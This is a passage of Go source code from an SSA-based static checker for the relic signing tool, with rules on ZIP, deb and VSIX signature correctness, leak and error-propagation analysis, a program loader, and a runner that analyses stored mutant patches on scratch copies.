			if pa, ok := pair[0].(*ssa.Parameter); ok && isNilConst(pair[1]) && strings.HasSuffix(pa.Type().String(), "io.Writer") {
				nilTests = append(nilTests, b)
			}
		}
	}
	n := 0
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			st, ok := in.(*ssa.Store)
			if !ok {
				continue
			}
			tn, f, _ := p.fieldAddr(st.Addr)
			if f != "CDOffset" || !(strings.HasSuffix(tn, "zipEndRecord") || strings.HasSuffix(tn, "zip64End")) {
				continue
			}
			n++
			key := fmt.Sprintf("%s %s.CDOffset#%d does not hang on the body writer", p.FName(fn), tn[strings.LastIndex(tn, ".")+1:], n)
			bad := ""
			dependsOn(st.Val, func(x ssa.Value) bool {
				ph, ok := x.(*ssa.Phi)
				if !ok {
					return false
				}
				// a phi that merges the two sides of a nil test of a writer, or carries a value out of a
				// loop that runs only on one side of it
				for _, tb := range nilTests {
					if tb.Dominates(ph.Block()) && tb != ph.Block() {
						for i, pb := range ph.Block().Preds {
							_ = i
							if pb == tb || tb.Succs[0].Dominates(pb) != tb.Succs[1].Dominates(pb) {
								bad = p.Pos(lastPos(tb))
							}
						}
					}
				}
				return false
			})
			out = append(out, gFinding{Key: key, Pos: p.Pos(st.Pos()), OK: bad == "",
				Detail: "the directory offset written into the end record is computed on one side of the test whether a body writer was given (" + bad + "): called without a body - the metadata-only path of verification and of the is-signed probe - the end records carry offset 0 and the directory digest differs from the one computed with a body"})
		}
	}
	if n == 0 {
		out = append(out, gFinding{Key: p.FName(fn) + " records a directory offset", Pos: p.Pos(fn.Pos()), OK: false, Detail: "no store into an end record's CDOffset found"})
	}
	return out
}

// ------------------------------------------------------------------------------ R17r = R03k

// localHeaderFromItself: the name and extra field kept for a member's local header are read from
// the local header (sized by its own length fields), not taken from the central directory entry:
// the two may legally differ in length, and every offset that follows is computed from them.
func localHeaderFromItself(p *Prog) (out []gFinding) {
	fn := p.Func("lib/zipslicer.(*File).readLocalHeader")
	if fn == nil {
		return []gFinding{{Key: "(*File).readLocalHeader", Pos: "-", OK: false, Detail: "function not found"}}
	}
	for _, field := range []string{"lfhName", "lfhExtra"} {
		found := false
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				st, ok := in.(*ssa.Store)
				if !ok {
					continue
				}
				tn, f, _ := p.fieldAddr(st.Addr)
				if !strings.HasSuffix(tn, "lib/zipslicer.File") || f != field {
					continue
				}
				found = true
				fromLocal := dependsOn(st.Val, func(x ssa.Value) bool {
					t2, f2, _ := p.fieldLoad(x)
					return strings.HasSuffix(t2, "zipLocalHeader") && (f2 == "FilenameLen" || f2 == "ExtraLen")
				})
				fromCentral := dependsOn(st.Val, func(x ssa.Value) bool {
					t2, f2, _ := p.fieldLoad(x)
					return strings.HasSuffix(t2, "lib/zipslicer.File") && (f2 == "Name" || f2 == "Extra")
				})
				out = append(out, gFinding{Key: "readLocalHeader fills " + field + " from the local header", Pos: p.Pos(st.Pos()), OK: fromLocal && !fromCentral,
					Detail: field + " is not a buffer sized by the local header's own length field (or is taken from the central directory's copy): a member whose local extra field differs in length from its central one (Info-ZIP timestamps, zipalign padding, a ZIP64 extra kept only in the directory) gets a wrong total size, so every later offset and every removed range drifts and the rewritten archive is unreadable"})
			}
		}
		if !found {
			out = append(out, gFinding{Key: "readLocalHeader fills " + field + " from the local header", Pos: p.Pos(fn.Pos()), OK: false, Detail: "no store into File." + field + " found"})
		}
	}
	return out
}

// ------------------------------------------------------------------------------ R03j

// counterDirectlyUnderReader: signdeb.Sign takes archive positions from a byte counter wrapped
// around the input. Whatever parses the archive must read from that counter itself; a buffering
// layer in between reads ahead and the count no longer says where the parser is.
func counterDirectlyUnderReader(p *Prog) (out []gFinding) {
	fn := p.Func("lib/signdeb.Sign")
	if fn == nil {
		return []gFinding{{Key: "signdeb.Sign", Pos: "-", OK: false, Detail: "function not found"}}
	}
	var counter ssa.Value
	for _, ci := range p.callsIn(fn, "lib/readercounter.New") {
		counter = ci.Value()
	}
	if counter == nil {
		return []gFinding{{Key: "signdeb.Sign counts the bytes it has read", Pos: p.Pos(fn.Pos()), OK: true, Detail: "no readercounter in use (positions are obtained some other way)"}}
	}
	n := 0
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			ci, ok := in.(ssa.CallInstruction)
			if !ok || !strings.HasSuffix(p.calleeName(ci.Common()), "ar.NewReader") {
				continue
			}
			n++
			arg := ci.Common().Args[0]
			// wrappers of the standard library that hand through exactly the bytes asked for do not
			// disturb the count
			for i := 0; i < 4; i++ {
				call, ok := arg.(*ssa.Call)
				if !ok {
					break
				}
				switch p.calleeName(call.Common()) {
				case "io.LimitReader", "io.TeeReader", "io.NopCloser":
					arg = call.Common().Args[0]
					continue
				}
				break
			}
			direct := false
			if mi, ok := arg.(*ssa.MakeInterface); ok && mi.X == counter {
				direct = true
			}
			if arg == counter {
				direct = true
			}
			out = append(out, gFinding{Key: fmt.Sprintf("signdeb.Sign ar reader#%d reads from the counter itself", n), Pos: p.Pos(in.Pos()), OK: direct,
				Detail: "the archive reader does not read from the byte counter directly (something sits in between, e.g. a bufio.Reader): the counter then runs ahead of the parser by whatever was buffered, the position recorded for an existing _gpg member is wrong and re-signing cuts the archive in the wrong place"})
		}
	}
	if n == 0 {
		out = append(out, gFinding{Key: "signdeb.Sign ar reader", Pos: p.Pos(fn.Pos()), OK: false, Detail: "no ar.NewReader call found"})
	}
	return out
}

// ------------------------------------------------------------------------------ R19j

// opcNamespaceDecls: the OPC (VSIX) signature declares inclusive Canonical XML while relic
// serialises exclusive-style. The two forms coincide as long as every namespace is declared as
// the default namespace on the very element that uses it, which is how the builder works; a
// prefixed declaration on an ancestor is in scope of SignedInfo and Object for an inclusive
// canonicaliser and absent for relic's.
func opcNamespaceDecls(p *Prog) (out []gFinding) {
	n := 0
	for _, fn := range p.pkgFuncs("signers/vsix") {
		for _, ci := range p.callsIn(fn, "(*github.com/beevik/etree.Element).CreateAttr") {
			k, ok := constString(ci.Common().Args[1])
			if !ok || !strings.HasPrefix(k, "xmlns") {
				continue
			}
			n++
			out = append(out, gFinding{Key: fmt.Sprintf("%s namespace declaration#%d %q", p.FName(fn), n, k), Pos: p.Pos(ci.Pos()), OK: k == "xmlns",
				Detail: "a prefixed namespace (" + k + ") is declared in the OPC signature: the signature names inclusive Canonical XML 1.0, under which that declaration is part of the canonical form of every descendant - SignedInfo and the signed Object included - while relic's canonicaliser drops namespaces an element does not use; a conforming verifier computes other digests than relic signed"})
		}
	}
	if n == 0 {
		out = append(out, gFinding{Key: "signers/vsix namespace declarations", Pos: "-", OK: false, Detail: "no namespace declaration found in the OPC signature builder"})
	}
	return out
}
