package main

// E4 — release on all paths (typestate), and E2 — error propagation.

import (
	"fmt"
	"go/token"
	"go/types"

	"golang.org/x/tools/go/ssa"
)

// aliasesOf computes the values in fn that denote the same object as v: through
// interface conversions, type assertions, phis, and round trips through local Allocs
// (variables captured by closures). escaped reports a store into non-local memory.
func aliasesOf(v ssa.Value) (set map[ssa.Value]bool, escapes []ssa.Instruction) {
	set = map[ssa.Value]bool{}
	var work []ssa.Value
	add := func(x ssa.Value) {
		if !set[x] {
			set[x] = true
			work = append(work, x)
		}
	}
	add(v)
	for len(work) > 0 {
		x := work[0]
		work = work[1:]
		refs := x.Referrers()
		if refs == nil {
			continue
		}
		for _, r := range *refs {
			switch r := r.(type) {
			case *ssa.Phi:
				add(r)
			case *ssa.MakeInterface:
				add(r)
			case *ssa.ChangeInterface:
				add(r)
			case *ssa.ChangeType:
				add(r)
			case *ssa.TypeAssert:
				if r.CommaOk {
					for _, rr := range *r.Referrers() {
						if e, ok := rr.(*ssa.Extract); ok && e.Index == 0 {
							add(e)
						}
					}
				} else {
					add(r)
				}
			case *ssa.Store:
				if r.Val != x {
					continue
				}
				if a, ok := r.Addr.(*ssa.Alloc); ok {
					// loads of the local are aliases
					for _, ar := range *a.Referrers() {
						if l, ok := ar.(*ssa.UnOp); ok && l.Op == token.MUL {
							add(l)
						}
					}
					continue
				}
				escapes = append(escapes, r)
			}
		}
	}
	return
}

// isMethodCallOn: is the call a method call named one of names whose receiver is in set?
// Also recognises `defer func() { x.Close() }()` closures capturing an alias.
func (p *Prog) isMethodCallOn(ci ssa.CallInstruction, set map[ssa.Value]bool, names map[string]bool) bool {
	c := ci.Common()
	if c.IsInvoke() {
		return names[c.Method.Name()] && set[c.Value]
	}
	if f := c.StaticCallee(); f != nil && f.Signature.Recv() != nil && len(c.Args) > 0 {
		if names[f.Name()] && set[c.Args[0]] {
			return true
		}
	}
	// closure: defer func(){ ... alias.Close() ... }()
	if mc, ok := c.Value.(*ssa.MakeClosure); ok {
		fn := mc.Fn.(*ssa.Function)
		for i, b := range mc.Bindings {
			capt := false
			if set[b] {
				capt = true
			}
			// binding is the Alloc holding the alias
			if a, ok := b.(*ssa.Alloc); ok {
				for _, ar := range *a.Referrers() {
					if st, ok := ar.(*ssa.Store); ok && st.Addr == a && set[st.Val] {
						capt = true
					}
				}
			}
			if !capt {
				continue
			}
			fv := fn.FreeVars[i]
			inner := map[ssa.Value]bool{fv: true}
			for _, r := range *fv.Referrers() {
				if l, ok := r.(*ssa.UnOp); ok && l.Op == token.MUL {
					in2, _ := aliasesOf(l)
					for k := range in2 {
						inner[k] = true
					}
				}
			}
			for _, bb := range fn.Blocks {
				for _, in := range bb.Instrs {
					if ci2, ok := in.(ssa.CallInstruction); ok && p.isMethodCallOn(ci2, inner, names) {
						return true
					}
				}
			}
		}
	}
	return false
}

type leak struct {
	Ret  *ssa.Return
	Path []string
}

// leaksOf: paths from the acquisition `acq` (success side) to a Return on which the
// resource (result #resIdx of acq, or the single result when resIdx<0) is neither
// released (method in releaseNames called, incl. deferred), nor returned, nor stored
// away. errIdx<0: acquisition cannot fail.
func (p *Prog) leaksOf(fn *ssa.Function, acq *ssa.Call, resIdx, errIdx int, releaseNames map[string]bool) (leaks []leak, res ssa.Value) {
	var errV ssa.Value
	if resIdx < 0 {
		res = acq
	}
	for _, r := range *acq.Referrers() {
		if e, ok := r.(*ssa.Extract); ok {
			if e.Index == resIdx {
				res = e
			}
			if e.Index == errIdx {
				errV = e
			}
		}
	}
	if res == nil {
		// result discarded entirely: leaks immediately
		return []leak{{nil, []string{p.blockLine(acq.Block())}}}, nil
	}
	set, escapes := aliasesOf(res)
	escapeAt := map[ssa.Instruction]bool{}
	for _, e := range escapes {
		escapeAt[e] = true
	}
	deleted := map[edge]bool{}
	if errV != nil {
		g := Guard{Match: func(f Fact) bool { return f.Kind == NonNil && stripConv(f.V) == errV }}
		deleted = passEdges(fn, g)
	}
	visited := map[int]bool{}
	type pos struct {
		b *ssa.BasicBlock
		i int
	}
	pred := map[int]int{acq.Block().Index: -1}
	stack := []pos{{acq.Block(), instrIndex(acq) + 1}}
	for len(stack) > 0 {
		cur := stack[len(stack)-1]
		stack = stack[:len(stack)-1]
		released := false
		for i := cur.i; i < len(cur.b.Instrs) && !released; i++ {
			in := cur.b.Instrs[i]
			if escapeAt[in] {
				released = true
				break
			}
			switch x := in.(type) {
			case ssa.CallInstruction:
				if p.isMethodCallOn(x, set, releaseNames) {
					released = true
				}
				// resource handed to a struct literal / other call is not a release
			case *ssa.Return:
				for _, rv := range x.Results {
					if set[rv] {
						released = true
					}
				}
				if !released {
					leaks = append(leaks, leak{x, p.witness(fn, pred, cur.b.Index)})
					released = true
				}
			case *ssa.Panic:
				released = true
			}
		}
		if released {
			continue
		}
		for si, s := range cur.b.Succs {
			if deleted[edge{cur.b.Index, si}] || visited[s.Index] {
				continue
			}
			visited[s.Index] = true
			pred[s.Index] = cur.b.Index
			stack = append(stack, pos{s, 0})
		}
	}
	return
}

// ---------------------------------------------------------------------------------
// E2

type errUse int

const (
	errPropagated errUse = iota // tested, returned, wrapped, stored or passed on
	errDropped                  // result not extracted / assigned to blank / unused
	errNoError                  // callee has no error result
)

// errDisposition classifies what happens to the error result of a call.
func errDisposition(ci ssa.CallInstruction) errUse {
	sig := ci.Common().Signature()
	ei := errResultIndex(sig)
	if ei < 0 {
		return errNoError
	}
	call, ok := ci.(*ssa.Call)
	if !ok {
		return errDropped // go/defer: result discarded
	}
	var errV ssa.Value
	if sig.Results().Len() == 1 {
		errV = call
	} else {
		for _, r := range *call.Referrers() {
			if e, ok := r.(*ssa.Extract); ok && e.Index == ei {
				errV = e
			}
		}
	}
	if errV == nil {
		return errDropped
	}
	if !valueIsUsed(errV, map[ssa.Value]bool{}) {
		return errDropped
	}
	return errPropagated
}

// valueIsUsed: does the value reach anything other than phis that nobody reads?
// (`err = f()` merged into a variable that is never tested again is a dropped error.)
func valueIsUsed(v ssa.Value, seen map[ssa.Value]bool) bool {
	if seen[v] {
		return false
	}
	seen[v] = true
	refs := v.Referrers()
	if refs == nil {
		return true
	}
	for _, r := range *refs {
		switch x := r.(type) {
		case *ssa.DebugRef:
			continue
		case *ssa.Phi:
			if valueIsUsed(x, seen) {
				return true
			}
		case *ssa.Store:
			// a store into a local that is read somewhere
			if a, ok := x.Addr.(*ssa.Alloc); ok && x.Val == v {
				for _, ar := range *a.Referrers() {
					if l, ok := ar.(*ssa.UnOp); ok && l.Op == token.MUL && valueIsUsed(l, seen) {
						return true
					}
				}
				continue
			}
			return true
		default:
			return true
		}
	}
	return false
}

// errTestGuard matches the If edges on which the error value (or a variable it was
// merged into through phis) is known non-nil.
func errNonNilGuard(errV ssa.Value) Guard {
	return Guard{Match: func(f Fact) bool {
		if f.Kind != NonNil {
			return false
		}
		v := stripConv(f.V)
		if v == errV {
			return true
		}
		if ph, ok := v.(*ssa.Phi); ok {
			for _, lf := range phiLeaves(ph, nil, map[*ssa.Phi]bool{}) {
				if stripConv(lf.V) == errV {
					return true
				}
			}
		}
		return false
	}}
}

// errValueOf returns the SSA value of the error result of a call (nil if dropped).
func errValueOf(ci ssa.CallInstruction) ssa.Value {
	sig := ci.Common().Signature()
	ei := errResultIndex(sig)
	call, ok := ci.(*ssa.Call)
	if ei < 0 || !ok {
		return nil
	}
	if sig.Results().Len() == 1 {
		return call
	}
	for _, r := range *call.Referrers() {
		if e, ok := r.(*ssa.Extract); ok && e.Index == ei {
			return e
		}
	}
	return nil
}

// failureReachesSuccess: from the edges on which errV != nil, can a success return
// (may-be-nil error) of fn be reached? Returns the offending return and a path.
func (p *Prog) failureReachesSuccess(fn *ssa.Function, errV ssa.Value) (*ssa.Return, []string) {
	g := Guard{Match: func(f Fact) bool { return f.Kind == NonNil && stripConv(f.V) == errV }}
	edges := passEdges(fn, g)
	var starts []*ssa.BasicBlock
	for e := range edges {
		starts = append(starts, fn.Blocks[e.from].Succs[e.succ])
	}
	if len(starts) == 0 {
		return nil, nil
	}
	pred := map[int]int{}
	seen := reach(fn, starts, nil, pred)
	for _, r := range p.successReturns(fn) {
		if seen[r.Block().Index] {
			return r, p.witness(fn, pred, r.Block().Index)
		}
	}
	return nil, nil
}

func typeName(p *Prog, t types.Type) string {
	return p.Rel(types.TypeString(t, nil))
}

func (p *Prog) describeCall(ci ssa.CallInstruction) string {
	n := p.calleeName(ci.Common())
	if n == "" {
		n = "call of " + short(ci.Common().Value.String(), 40)
	}
	return n
}

func fmtKey(format string, a ...any) string { return fmt.Sprintf(format, a...) }
