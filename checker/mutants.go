package main

// Thorough tier: the stored one-edit variants of /repo (mutants that must be reported,
// behaviour-preserving refactors that must not) are applied to scratch copies of the
// current working tree and ANALYSED (never executed) by this same checker.

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"sync"
)

type mutantSpec struct {
	ID     string   `json:"id"`
	Prop   string   `json:"property"`
	Kind   string   `json:"kind"` // "mutant" | "neutral"
	Expect []string `json:"expect_rules"`
	Note   string   `json:"note"`
	Patch  string   `json:"patch"` // path relative to the mutants directory
}

type mutantResult struct {
	Spec     mutantSpec
	Applied  bool
	Exit     int
	Rules    []string
	Detected bool
	Output   string
}

func runMutantCorpus(c *Ctx, repo, verif string) {
	idx := filepath.Join(verif, "mutants", "index.json")
	b, err := os.ReadFile(idx)
	if err != nil {
		c.Note("thorough: no mutant corpus (%v)", err)
		return
	}
	var all []mutantSpec
	if err := json.Unmarshal(b, &all); err != nil {
		c.Control("mutant corpus index unreadable: "+err.Error(), false)
		return
	}
	var specs []mutantSpec
	for _, s := range all {
		if s.Prop == c.Prop || (s.Kind == "neutral" && s.Prop == "all") {
			s.Prop = c.Prop
			specs = append(specs, s)
		}
	}
	// the independently written seeded changes are part of the corpus too
	if ents, err := os.ReadDir(filepath.Join(verif, "seeded")); err == nil {
		for _, e := range ents {
			mb, err := os.ReadFile(filepath.Join(verif, "seeded", e.Name(), "meta.json"))
			if err != nil {
				continue
			}
			var m struct {
				ID         string   `json:"id"`
				Property   string   `json:"property"`
				DetectedBy []string `json:"detected_by"`
				Detected   bool     `json:"detected"`
			}
			if json.Unmarshal(mb, &m) != nil || m.Property != c.Prop || !m.Detected {
				continue
			}
			specs = append(specs, mutantSpec{ID: "seeded-" + m.ID, Prop: c.Prop, Kind: "mutant", Expect: m.DetectedBy,
				Note: "independent seeded change", Patch: filepath.Join("..", "seeded", e.Name(), "patch.diff")})
		}
	}
	// behaviour-preserving refactorings written by independent sub-agents: every check has to stay silent on
	// every one of them, whichever property's code they touch
	if ents, err := os.ReadDir(filepath.Join(verif, "seeded_neutral")); err == nil {
		// a refactoring concerns this property when it touches a package in which the quick part of this run
		// placed an obligation or analysed a function (tools/try_neutrals.sh runs every check on every one)
		concerned := func(dir string) bool {
			for _, o := range c.obs {
				if strings.HasPrefix(o.Pos, dir+"/") || strings.Contains(o.Key, dir+".") {
					return true
				}
			}
			for f := range c.funcs {
				if strings.Contains(f, dir+".") {
					return true
				}
			}
			return false
		}
		nSkipped := 0
		for _, e := range ents {
			pf := filepath.Join(verif, "seeded_neutral", e.Name(), "patch.diff")
			pb, err := os.ReadFile(pf)
			if err != nil {
				continue
			}
			rel := false
			for _, line := range strings.Split(string(pb), "\n") {
				if strings.HasPrefix(line, "+++ b/") {
					if concerned(filepath.Dir(strings.TrimPrefix(line, "+++ b/"))) {
						rel = true
					}
				}
			}
			if !rel {
				nSkipped++
				continue
			}
			specs = append(specs, mutantSpec{ID: "refactor-" + e.Name(), Prop: c.Prop, Kind: "neutral",
				Note: "independent behaviour-preserving refactoring", Patch: filepath.Join("..", "seeded_neutral", e.Name(), "patch.diff")})
		}
		c.Note("thorough: %d stored refactorings touch no package this property has obligations in and were left out", nSkipped)
	}
	sort.Slice(specs, func(i, j int) bool { return specs[i].ID < specs[j].ID })
	if len(specs) == 0 {
		return
	}
	exe, _ := os.Executable()
	ctl := filepath.Join(verif, "checker", "testdata", "ctl")
	results := make([]mutantResult, len(specs))
	sem := make(chan struct{}, 8)
	var wg sync.WaitGroup
	for i, s := range specs {
		wg.Add(1)
		go func(i int, s mutantSpec) {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			results[i] = runOneMutant(exe, repo, verif, ctl, s)
		}(i, s)
	}
	wg.Wait()
	nDet, nMut, nNeu, nSilent, nSkip := 0, 0, 0, 0, 0
	for _, r := range results {
		name := fmt.Sprintf("%s %s (%s)", r.Spec.Kind, r.Spec.ID, r.Spec.Note)
		if !r.Applied {
			nSkip++
			c.Note("thorough: %s skipped — patch does not apply to the current tree", name)
			continue
		}
		if r.Spec.Kind == "mutant" {
			nMut++
			if r.Detected {
				nDet++
			}
			c.Control(fmt.Sprintf("%s -> reported by %v", name, r.Rules), r.Detected)
			if !r.Detected {
				c.Note("undetected mutant %s output:\n%s", r.Spec.ID, tail(r.Output, 1500))
			}
		} else {
			nNeu++
			ok := r.Exit == 0
			if ok {
				nSilent++
			}
			c.Control(fmt.Sprintf("%s -> silent", name), ok)
			if !ok {
				c.Note("false alarm on neutral refactor %s:\n%s", r.Spec.ID, tail(r.Output, 1500))
			}
		}
	}
	c.Note("thorough: mutant corpus for %s: %d/%d mutants reported, %d/%d neutral refactors silent, %d skipped", c.Prop, nDet, nMut, nSilent, nNeu, nSkip)
}

func tail(s string, n int) string {
	if len(s) > n {
		return "…" + s[len(s)-n:]
	}
	return s
}

func runOneMutant(exe, repo, verif, ctl string, s mutantSpec) (res mutantResult) {
	res.Spec = s
	scratch, err := os.MkdirTemp("", "relicvet-mut-")
	if err != nil {
		res.Output = err.Error()
		return
	}
	defer os.RemoveAll(scratch)
	tree := filepath.Join(scratch, "repo")
	if out, err := exec.Command("rsync", "-a", "--exclude", ".git", repo+"/", tree+"/").CombinedOutput(); err != nil {
		res.Output = "rsync: " + string(out)
		return
	}
	patch, err := os.Open(filepath.Join(verif, "mutants", s.Patch))
	if err != nil {
		res.Output = err.Error()
		return
	}
	cmd := exec.Command("patch", "-p1", "-s", "-f", "--no-backup-if-mismatch")
	cmd.Dir = tree
	cmd.Stdin = patch
	out, err := cmd.CombinedOutput()
	patch.Close()
	if err != nil {
		res.Output = "patch: " + string(out)
		return
	}
	res.Applied = true
	sv := filepath.Join(scratch, "verif")
	os.MkdirAll(sv, 0o755)
	if kf, err := os.ReadFile(filepath.Join(verif, "KNOWN_FINDINGS.txt")); err == nil {
		os.WriteFile(filepath.Join(sv, "KNOWN_FINDINGS.txt"), kf, 0o644)
	}
	child := exec.Command(exe, "-property", s.Prop0(), "-tier", "quick", "-repo", tree, "-verif", sv, "-evidence", filepath.Join(sv, "ev.json"))
	child.Env = append(os.Environ(), "RELICVET_CTL="+ctl, "VERIF_TIER=quick")
	o, err := child.CombinedOutput()
	res.Output = string(o)
	if ee, ok := err.(*exec.ExitError); ok {
		res.Exit = ee.ExitCode()
	} else if err != nil {
		res.Exit = 2
	}
	seen := map[string]bool{}
	for _, line := range strings.Split(res.Output, "\n") {
		if strings.HasPrefix(line, "REPORT ") || strings.HasPrefix(line, "UNDECIDED ") {
			for _, f := range strings.Fields(line) {
				if strings.HasPrefix(f, "rule=") {
					seen[f[5:]] = true
				}
			}
		}
	}
	res.Rules = sortedKeys(seen)
	if res.Exit == 1 {
		if len(s.Expect) == 0 {
			res.Detected = len(seen) > 0
		}
		for _, e := range s.Expect {
			if seen[e] {
				res.Detected = true
			}
		}
	}
	return
}

// Prop0: neutral refactors registered for "all" are analysed under the property that
// is currently running; the runner rewrites Prop before calling.
func (s mutantSpec) Prop0() string { return s.Prop }
