package main

// E0 — loading the resolved program from /repo's current working tree.

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"os"
	"sort"
	"strings"

	"golang.org/x/tools/go/callgraph"
	"golang.org/x/tools/go/callgraph/cha"
	"golang.org/x/tools/go/callgraph/vta"
	"golang.org/x/tools/go/packages"
	"golang.org/x/tools/go/ssa"
	"golang.org/x/tools/go/ssa/ssautil"
)

// Prog is one loaded configuration of a Go module.
type Prog struct {
	Dir     string
	ModPath string
	Config  string // human-readable description of the build configuration
	Fset    *token.FileSet
	Roots   []*packages.Package          // packages of the module itself
	ByPath  map[string]*packages.Package // every package, deps included
	// sentinels: see sentinelError
	sentinels map[*ssa.Global]bool
	SSA       *ssa.Program
	Funcs     []*ssa.Function // every function with a body that belongs to the module (incl. closures)

	cha *callgraph.Graph
	vta *callgraph.Graph

	funcByObj map[*types.Func]*ssa.Function
	enclosing map[*ssa.Function]*ssa.Function
}

type LoadOpts struct {
	Dir       string
	Tags      string
	Env       []string // extra environment (GOOS=..., CGO_ENABLED=...)
	MinPkgs   int
	TypesOnly bool // no SSA (for cross-OS type-check-only loads)
}

func loadEnv(extra []string) []string {
	env := []string{}
	for _, kv := range os.Environ() {
		if strings.HasPrefix(kv, "GOWORK=") || strings.HasPrefix(kv, "GOFLAGS=") {
			continue
		}
		env = append(env, kv)
	}
	// the analysed module is complete (go.sum present): read-only module mode so the
	// loader can never rewrite /repo/go.mod.
	env = append(env, "GOWORK=off", "GOFLAGS=-mod=readonly", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local")
	env = append(env, extra...)
	return env
}

func Load(o LoadOpts) (*Prog, error) {
	fset := token.NewFileSet()
	cfg := &packages.Config{
		Mode:  packages.LoadAllSyntax | packages.NeedModule,
		Dir:   o.Dir,
		Fset:  fset,
		Env:   loadEnv(o.Env),
		Tests: false,
	}
	if o.Tags != "" {
		cfg.BuildFlags = []string{"-tags=" + o.Tags}
	}
	pkgs, err := packages.Load(cfg, "./...")
	if err != nil {
		return nil, fmt.Errorf("packages.Load: %w", err)
	}
	if len(pkgs) < o.MinPkgs {
		return nil, fmt.Errorf("loaded %d packages from %s, expected at least %d", len(pkgs), o.Dir, o.MinPkgs)
	}
	p := &Prog{Dir: o.Dir, Fset: fset, ByPath: map[string]*packages.Package{}}
	p.Config = fmt.Sprintf("dir=%s tags=%q env=%v", o.Dir, o.Tags, o.Env)
	var errs []string
	packages.Visit(pkgs, nil, func(pkg *packages.Package) {
		p.ByPath[pkg.PkgPath] = pkg
		for _, e := range pkg.Errors {
			errs = append(errs, pkg.PkgPath+": "+e.Error())
		}
	})
	if len(errs) > 0 {
		sort.Strings(errs)
		if len(errs) > 10 {
			errs = errs[:10]
		}
		return nil, fmt.Errorf("type/load errors: %s", strings.Join(errs, "; "))
	}
	for _, pkg := range pkgs {
		if pkg.Module != nil && p.ModPath == "" {
			p.ModPath = pkg.Module.Path
		}
	}
	if p.ModPath == "" {
		return nil, fmt.Errorf("cannot determine module path")
	}
	for _, pkg := range pkgs {
		if pkg.Module != nil && pkg.Module.Path == p.ModPath {
			p.Roots = append(p.Roots, pkg)
		}
	}
	sort.Slice(p.Roots, func(i, j int) bool { return p.Roots[i].PkgPath < p.Roots[j].PkgPath })
	if o.TypesOnly {
		return p, nil
	}
	prog, _ := ssautil.AllPackages(pkgs, ssa.InstantiateGenerics)
	p.SSA = prog
	// Build bodies for module packages only: no rule descends into dependencies
	// (they are sources/guards/sinks by table); CHA only needs their method sets.
	for _, pkg := range p.Roots {
		if sp := prog.Package(pkg.Types); sp != nil {
			sp.Build()
		}
	}
	p.funcByObj = map[*types.Func]*ssa.Function{}
	p.enclosing = map[*ssa.Function]*ssa.Function{}
	seen := map[*ssa.Function]bool{}
	var add func(fn *ssa.Function)
	add = func(fn *ssa.Function) {
		if fn == nil || seen[fn] {
			return
		}
		seen[fn] = true
		if fn.Blocks == nil {
			return
		}
		p.Funcs = append(p.Funcs, fn)
		if obj, ok := fn.Object().(*types.Func); ok && obj != nil {
			p.funcByObj[obj] = fn
		}
		for _, an := range fn.AnonFuncs {
			p.enclosing[an] = fn
			add(an)
		}
	}
	for _, pkg := range p.Roots {
		sp := prog.Package(pkg.Types)
		if sp == nil {
			continue
		}
		for _, m := range sp.Members {
			switch m := m.(type) {
			case *ssa.Function:
				add(m)
			case *ssa.Type:
				for _, t := range []types.Type{m.Type(), types.NewPointer(m.Type())} {
					ms := prog.MethodSets.MethodSet(t)
					for i := 0; i < ms.Len(); i++ {
						fn := prog.MethodValue(ms.At(i))
						if fn != nil && fn.Pkg == sp && fn.Synthetic == "" {
							add(fn)
						}
					}
				}
			}
		}
	}
	sort.Slice(p.Funcs, func(i, j int) bool {
		a, b := p.Funcs[i], p.Funcs[j]
		if a.String() != b.String() {
			return a.String() < b.String()
		}
		return a.Pos() < b.Pos()
	})
	return p, nil
}

// InModule reports whether the package path belongs to the analysed module.
func (p *Prog) InModule(pkg *types.Package) bool {
	if pkg == nil {
		return false
	}
	return pkg.Path() == p.ModPath || strings.HasPrefix(pkg.Path(), p.ModPath+"/")
}

// Rel strips the module prefix from a qualified name.
func (p *Prog) Rel(s string) string {
	return strings.ReplaceAll(s, p.ModPath+"/", "")
}

// Pkg resolves a module-relative package path ("server", "lib/pkcs7").
func (p *Prog) Pkg(rel string) *packages.Package {
	if rel == "" {
		return p.ByPath[p.ModPath]
	}
	return p.ByPath[p.ModPath+"/"+rel]
}

func (p *Prog) SSAPkg(rel string) *ssa.Package {
	pk := p.Pkg(rel)
	if pk == nil {
		return nil
	}
	return p.SSA.Package(pk.Types)
}

// Func resolves "pkg/path.Name" or "pkg/path.(*T).M" / "pkg/path.(T).M"
// (module-relative package path) to an ssa.Function with a body.
func (p *Prog) Func(spec string) *ssa.Function {
	pkgRel, recv, ptr, name := splitSpec(spec)
	pk := p.Pkg(pkgRel)
	if pk == nil {
		return nil
	}
	if recv == "" {
		obj, _ := pk.Types.Scope().Lookup(name).(*types.Func)
		if obj == nil {
			return nil
		}
		return p.funcByObj[obj]
	}
	tn, _ := pk.Types.Scope().Lookup(recv).(*types.TypeName)
	if tn == nil {
		return nil
	}
	var t types.Type = tn.Type()
	if ptr {
		t = types.NewPointer(t)
	}
	obj, _, _ := types.LookupFieldOrMethod(t, true, pk.Types, name)
	fobj, _ := obj.(*types.Func)
	if fobj == nil {
		return nil
	}
	return p.funcByObj[fobj]
}

// splitSpec parses "lib/x.(*T).M", "lib/x.T.M" is not supported; "lib/x.F".
func splitSpec(spec string) (pkg, recv string, ptr bool, name string) {
	if i := strings.Index(spec, ".("); i >= 0 {
		pkg = spec[:i]
		rest := spec[i+2:]
		j := strings.Index(rest, ").")
		recv = rest[:j]
		name = rest[j+2:]
		if strings.HasPrefix(recv, "*") {
			ptr = true
			recv = recv[1:]
		}
		return
	}
	i := strings.LastIndex(spec, ".")
	return spec[:i], "", false, spec[i+1:]
}

// FuncOf returns the module function for a types.Func, or nil.
func (p *Prog) FuncOf(obj *types.Func) *ssa.Function {
	if obj == nil {
		return nil
	}
	return p.funcByObj[obj.Origin()]
}

// Outer returns the outermost enclosing named function of a closure.
func (p *Prog) Outer(fn *ssa.Function) *ssa.Function {
	for {
		e, ok := p.enclosing[fn]
		if !ok {
			return fn
		}
		fn = e
	}
}

// FName is the stable, module-relative name of a function used in instance keys.
func (p *Prog) FName(fn *ssa.Function) string {
	if fn == nil {
